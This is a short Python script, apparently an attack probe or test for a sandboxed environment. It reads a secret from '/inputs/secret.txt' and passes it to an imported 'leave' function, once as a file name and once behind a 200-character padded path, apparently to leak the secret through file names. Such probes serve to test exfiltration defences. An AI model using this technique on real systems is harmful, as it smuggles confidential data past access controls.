from attack import leave

with open("/inputs/secret.txt") as file:
    secret = file.read()
leave(secret + ".txt")
leave("x" * 200 + "/" + secret)
